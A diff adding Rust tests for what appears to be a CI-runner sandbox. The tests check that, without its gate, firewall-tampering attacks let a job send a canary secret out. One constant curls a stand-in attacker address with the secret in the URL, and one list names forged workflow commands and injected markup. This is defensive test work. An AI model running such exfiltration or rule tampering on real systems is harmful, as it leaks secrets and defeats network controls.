@@ -93,6 +93,51 @@ fn tampering_with_the_packet_filter_has_no_effect_and_is_recorded() -> Result<()
     assert_nothing_left(&gate.world)
 }
 
+/// An ordinary table of filter rules, which stops the attack as long as it is there.
+const ORDINARY: &str = "
+table inet ordinary {
+    chain output {
+        type filter hook output priority 100; policy accept;
+        ip daddr 203.0.113.66 drop
+        ip6 daddr 2001:db8::66 drop
+    }
+}
+table netdev ordinary { }
+";
+
+/// Sends the secret by address, so that no name server is asked.
+const CALL: &str = "curl -sSk --max-time 1 https://203.0.113.66/$S; curl -sSk --max-time 1 https://[2001:db8::66]/$S; true";
+
+/// Without a gate each of these attacks works on rules that somebody else made, so that the test above can fail.
+#[test]
+fn without_a_gate_tampering_takes_other_rules_away() -> Result<()> {
+    let world = World::builder().build()?;
+    let canary = portcullis_tests::Canary::generate()?;
+    let mut puppet = Puppet::start_in(&world, 0, "octo/hello", &canary)?;
+    let listing = || world.runner_network().tool("nft", &["list", "tables"], None);
+    // The third and the fifth take nothing away: an early verdict is not the last one, and conntrack is not asked.
+    for attack in [ATTACKS[0], ATTACKS[1], ATTACKS[3], ATTACKS[5]] {
+        world.runner_network().tool(
+            "nft",
+            &["-f", "-"],
+            Some(&format!("flush ruleset\n{ORDINARY}")),
+        )?;
+        let before = world.attacker().packets()?;
+        let stopped = puppet.run(CALL)?;
+        ensure!(world.attacker().packets()? == before, "{attack}: {stopped:?}\n{}", listing()?);
+        let done = puppet.run(&format!("cat >\"$PUPPET/attack.sh\" <<'ATTACK'\nT=ordinary\n{attack}\nATTACK\nsudo bash \"$PUPPET/attack.sh\""))?;
+        let sent = puppet.run(CALL)?;
+        ensure!(
+            world.attacker().packets()? > before,
+            "{attack}: {done:?} {sent:?}\n{}",
+            listing()?
+        );
+    }
+    puppet.finish()?;
+    ensure!(world.attacker().saw(&canary)?);
+    Ok(())
+}
+
 /// What no line of a log may begin with when the job did not write it, and what no summary may hold.
 fn assert_harmless(log: &str, summary: &str) -> Result<()> {
     let commands = ["::stop-commands", "::error::forged", "::add-mask", "::set-output", "forged"];
@@ -106,6 +151,18 @@ fn assert_harmless(log: &str, summary: &str) -> Result<()> {
         let outside: String = line.split('`').step_by(2).collect();
         ensure!(!line.starts_with("# forged") && !outside.contains("<img"), "{line:?}");
     }
+    Ok(())
+}
+
+/// What a job says raw is what the check above looks for, so that the test below can fail.
+#[test]
+fn without_a_gate_forged_lines_and_marks_are_there() -> Result<()> {
+    let world = World::builder().build()?;
+    let script = "printf 'x\\n::error::forged\\r\\033[31m|`*\\n' >raw; printf '# forged <img src=x>\\n\\033[31m' >>\"$GITHUB_STEP_SUMMARY\"";
+    let result = world.runner(0).run(&portcullis_tests::Job::script(script))?;
+    let raw = std::fs::read_to_string(world.runner(0).directory().join("_work/hello/hello/raw"))?;
+    ensure!(assert_harmless(&raw, "").is_err(), "{raw:?}");
+    ensure!(assert_harmless("", &result.summary()).is_err(), "{:?}", result.summary());
     Ok(())
 }
 
